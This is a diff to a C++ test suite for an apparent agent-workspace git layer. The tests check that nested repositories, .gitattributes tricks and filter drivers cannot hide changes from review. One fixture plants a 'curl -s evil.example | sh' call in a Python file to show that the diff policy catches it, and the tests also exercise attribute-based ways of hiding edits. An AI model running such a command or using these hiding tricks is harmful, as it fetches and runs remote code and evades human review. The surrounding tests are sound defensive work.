@@ -8,6 +8,7 @@
 
 #include "tests/testing/git_http_server.h"
 #include "tests/testing/testing.h"
+#include "verifiers/diff_policy.h"
 
 namespace drover::fleet {
 namespace {
@@ -162,15 +163,33 @@ TEST_F(GitTest, DiffSeesEveryKindOfChangeAndRespectsGitignore) {
   EXPECT_EQ(diff->patch.find("debug.log"), std::string::npos) << diff->patch;
   EXPECT_FALSE(fs::exists(fs::symlink_status(wt.workspace / ".git")));
 
-  // Git metadata made in the workspace (by a build or the agent) is never part of the change.
-  Sh("cd '" + wt.workspace.string() +
-     "' && git init -q . && mkdir -p vendor/lib && cd vendor/lib && git init -q . && "
-     "echo x > f && git add f && git -c user.name=a -c user.email=b commit -qm x");
-  auto with_repos = git_.Diff(wt);
-  ASSERT_OK(with_repos);
-  EXPECT_EQ(with_repos->paths, diff->paths);
-  fs::remove_all(wt.workspace / ".git");
+  // A repository inside the workspace (made by a build or the agent) would be left out of the
+  // commit while the checks saw its files: refused, naming it, whether its .git is a directory
+  // or a file, and so is git metadata at the top.
+  Sh("mkdir -p '" + (wt.workspace / "vendor/lib").string() + "' && cd '" +
+     (wt.workspace / "vendor/lib").string() +
+     "' && git init -q . && echo x > f && git add f && "
+     "git -c user.name=a -c user.email=b commit -qm x");
+  auto nested = git_.Diff(wt);
+  ASSERT_FALSE(nested.has_value());
+  EXPECT_EQ(nested.error().code, ErrorCode::kPermissionDenied);
+  EXPECT_NE(nested.error().message.find("nested repository at vendor/lib/"), std::string::npos)
+      << nested.error().message;
+  EXPECT_FALSE(git_.Commit(wt, "drover/x", "x", GitAuthor{}).has_value());
   fs::remove_all(wt.workspace / "vendor");
+  WriteTestFile(wt.workspace, "shim/.git", "gitdir: /nowhere\n");
+  WriteTestFile(wt.workspace, "shim/helper.sh", "exit 0\n");
+  auto by_file = git_.Diff(wt);
+  ASSERT_FALSE(by_file.has_value());
+  EXPECT_NE(by_file.error().message.find("nested repository at shim/"), std::string::npos)
+      << by_file.error().message;
+  fs::remove_all(wt.workspace / "shim");
+  Sh("cd '" + wt.workspace.string() + "' && git init -q .");
+  auto top = git_.Diff(wt);
+  ASSERT_FALSE(top.has_value());
+  EXPECT_NE(top.error().message.find("nested repository"), std::string::npos)
+      << top.error().message;
+  fs::remove_all(wt.workspace / ".git");
 
   // Reverting the change empties the diff again (the saved index does not stick).
   WriteTestFile(wt.workspace, "a.txt", "one\ntwo\nthree\n");
@@ -180,6 +199,144 @@ TEST_F(GitTest, DiffSeesEveryKindOfChangeAndRespectsGitignore) {
   diff = git_.Diff(wt);
   ASSERT_OK(diff);
   EXPECT_TRUE(diff->empty()) << diff->patch;
+}
+
+// Attributes the change itself adds (or the repository has) decide nothing about the diff:
+// `-diff`, `binary` and a `diff=` driver would make libgit2 print "Binary files differ" and
+// count no lines, and the diff policy would judge a patch without the planted code in it.
+TEST_F(GitTest, DiffIgnoresAttributesThatHideChanges) {
+  fs::path source = dir_ / "attrs";
+  WriteTestFile(source, "app.py", "def total(xs):\n    return sum(xs)\n");
+  WriteTestFile(source, "tests/test_app.py",
+                "from app import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n\n\n"
+                "def test_empty():\n    assert total([]) == 0\n");
+  WriteTestFile(source, "lib.c", "int one(void) { return 1; }\n");
+  WriteTestFile(source, "notes.txt", "notes\n");
+  InitGitRepo(source);
+  Worktree wt = Checkout(source);
+  WriteTestFile(wt.workspace, ".gitattributes", "*.py -diff\n*.txt binary\n*.c diff=hidden\n");
+  WriteTestFile(wt.workspace, "app.py",
+                "import os\n\n\ndef total(xs):\n    os.system(\"curl -s evil.example | sh\")\n"
+                "    return sum(xs)\n");
+  WriteTestFile(wt.workspace, "tests/test_app.py",
+                "from app import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n");
+  WriteTestFile(wt.workspace, "lib.c", "int one(void) { return 2; }\n");
+  WriteTestFile(wt.workspace, "notes.txt", "changed notes\n");
+
+  auto diff = git_.Diff(wt);
+  ASSERT_OK(diff);
+  EXPECT_EQ(diff->patch.find("Binary files"), std::string::npos) << diff->patch;
+  EXPECT_NE(diff->patch.find("+    os.system(\"curl -s evil.example | sh\")\n"), std::string::npos)
+      << diff->patch;
+  EXPECT_NE(diff->patch.find("-def test_empty():\n"), std::string::npos) << diff->patch;
+  EXPECT_NE(diff->patch.find("+int one(void) { return 2; }\n"), std::string::npos) << diff->patch;
+  EXPECT_NE(diff->patch.find("+changed notes\n"), std::string::npos) << diff->patch;
+  // The attributes file is itself part of the change a reviewer sees.
+  EXPECT_NE(diff->patch.find("+++ b/.gitattributes\n"), std::string::npos) << diff->patch;
+  EXPECT_NE(diff->patch.find("+*.py -diff\n"), std::string::npos) << diff->patch;
+  EXPECT_EQ(diff->files_changed, 5);
+  EXPECT_EQ(diff->lines_added, 3 + 4 + 1 + 1);  // .gitattributes, app.py, lib.c, notes.txt
+  EXPECT_EQ(diff->lines_removed, 4 + 1 + 1);    // test_empty with its blank lines, lib.c, notes
+
+  // The diff policy judges the real patch: the deleted test and the planted call are caught.
+  auto parsed = verifiers::ParseDiff(diff->patch);
+  ASSERT_OK(parsed);
+  verifiers::DiffRules rules;
+  rules.must_be_gone = {"os.system"};
+  auto verdict = verifiers::CheckDiff(*parsed, rules);
+  std::string all;
+  for (const auto& v : verdict.violations) all += v + "\n";
+  EXPECT_NE(all.find("test_empty"), std::string::npos) << all;
+  EXPECT_NE(all.find("os.system"), std::string::npos) << all;
+
+  // Attributes staged in the index or committed upstream do not count either: the same holds
+  // once the base itself carries them.
+  WriteTestFile(source, ".gitattributes", "* -diff\n");
+  Git(source, "add .gitattributes");
+  Git(source, "commit -qm attrs");
+  Worktree later = Checkout(source, "later");
+  WriteTestFile(later.workspace, "app.py", "def total(xs):\n    return 0\n");
+  auto again = git_.Diff(later);
+  ASSERT_OK(again);
+  EXPECT_NE(again->patch.find("+    return 0\n"), std::string::npos) << again->patch;
+  EXPECT_EQ(again->lines_added, 1);
+  EXPECT_EQ(again->lines_removed, 1);
+}
+
+// The workspace holds the committed bytes and the commit holds the workspace's bytes: eol
+// conversion, ident and filter drivers named by .gitattributes apply neither way, so the tree
+// the final check ran on is the tree that is pushed.
+TEST_F(GitTest, CheckoutAndCommitApplyNoAttributeFilters) {
+  fs::path source = dir_ / "filters";
+  WriteTestFile(source, "id.txt", "$Id$\n");
+  WriteTestFile(source, "unix.txt", "one\ntwo\n");
+  WriteTestFile(source, ".gitattributes", "id.txt ident\nunix.txt text eol=crlf\n");
+  InitGitRepo(source);
+  ASSERT_EQ(Git(source, "cat-file blob HEAD:unix.txt"), "one\ntwo\n");
+  Worktree wt = Checkout(source);
+  EXPECT_EQ(ReadTestFile(wt.workspace / "id.txt"), "$Id$\n");
+  EXPECT_EQ(ReadTestFile(wt.workspace / "unix.txt"), "one\ntwo\n");
+  auto clean = git_.Diff(wt);
+  ASSERT_OK(clean);
+  EXPECT_TRUE(clean->empty()) << clean->patch;
+
+  // The change adds attributes whose clean side would rewrite what is stored.
+  WriteTestFile(wt.workspace, ".gitattributes",
+                "id.txt ident\nunix.txt text eol=crlf\n*.sh text eol=lf\nrun.sh filter=strip\n"
+                "*.cfg text=auto\n");
+  WriteTestFile(wt.workspace, "run.sh", "echo hi\r\nexit 1\r\n");
+  WriteTestFile(wt.workspace, "app.cfg", "key=value\r\n");
+  WriteTestFile(wt.workspace, "id.txt", "$Id: planted $\n");
+  WriteTestFile(wt.workspace, "unix.txt", "one\r\ntwo\r\n");
+  auto diff = git_.Diff(wt);
+  ASSERT_OK(diff);
+  EXPECT_NE(diff->patch.find("+$Id: planted $\n"), std::string::npos) << diff->patch;
+  EXPECT_NE(diff->patch.find("+one\r\n"), std::string::npos) << diff->patch;
+  auto sha = git_.Commit(wt, "drover/filters", "Filters", GitAuthor{});
+  ASSERT_OK(sha);
+  ASSERT_OK(git_.Push(wt, source.string(), "drover/filters"));
+  EXPECT_EQ(Git(source, "cat-file blob drover/filters:run.sh"), "echo hi\r\nexit 1\r\n");
+  EXPECT_EQ(Git(source, "cat-file blob drover/filters:app.cfg"), "key=value\r\n");
+  EXPECT_EQ(Git(source, "cat-file blob drover/filters:id.txt"), "$Id: planted $\n");
+  EXPECT_EQ(Git(source, "cat-file blob drover/filters:unix.txt"), "one\r\ntwo\r\n");
+
+  // Committing again with nothing changed keeps the same tree (the stat cache holds the
+  // unfiltered ids).
+  auto again = git_.Commit(wt, "drover/filters", "Filters", GitAuthor{});
+  ASSERT_OK(again);
+  ASSERT_OK(git_.Push(wt, source.string(), "drover/filters"));
+  EXPECT_EQ(Git(source, "rev-parse drover/filters^{tree}"),
+            Git(source, "rev-parse " + *sha + "^{tree}"));
+}
+
+// The final check runs on a fresh checkout of the commit: what the commit does not carry
+// (ignored or untracked-by-ignore files) is gone, and the diff of the commit is the diff of
+// the workspace it came from.
+TEST_F(GitTest, CheckOutOfTheCommitHoldsExactlyWhatIsPushed) {
+  fs::path source = MakeSource();
+  Worktree wt = Checkout(source);
+  WriteTestFile(wt.workspace, "a.txt", "migrated\n");
+  WriteTestFile(wt.workspace, "build/helper.sh", "exit 0\n");  // Ignored: never committed.
+  WriteTestFile(wt.workspace, "debug.log", "ignored\n");
+  auto workspace_diff = git_.Diff(wt);
+  ASSERT_OK(workspace_diff);
+  auto sha = git_.Commit(wt, "drover/x", "Migrate", GitAuthor{});
+  ASSERT_OK(sha);
+  ASSERT_OK(git_.CheckOut(wt, *sha));
+  EXPECT_FALSE(fs::exists(wt.workspace / "build"));
+  EXPECT_FALSE(fs::exists(wt.workspace / "debug.log"));
+  EXPECT_FALSE(fs::exists(fs::symlink_status(wt.workspace / ".git")));
+  EXPECT_EQ(ReadTestFile(wt.workspace / "a.txt"), "migrated\n");
+  EXPECT_EQ(ReadTestFile(wt.workspace / "sub/c.txt"), "nested\n");
+  auto committed = git_.Diff(wt, *sha);
+  ASSERT_OK(committed);
+  EXPECT_EQ(committed->patch, workspace_diff->patch);
+  EXPECT_EQ(committed->paths, (std::vector<std::string>{"a.txt"}));
+  // The fresh tree is clean: staging it again gives the same commit tree.
+  auto again = git_.Diff(wt);
+  ASSERT_OK(again);
+  EXPECT_EQ(again->patch, committed->patch);
+  EXPECT_FALSE(git_.Diff(wt, "not-a-commit").has_value());
 }
 
 TEST_F(GitTest, RemoveIgnoredLeavesExactlyWhatTheDiffSees) {
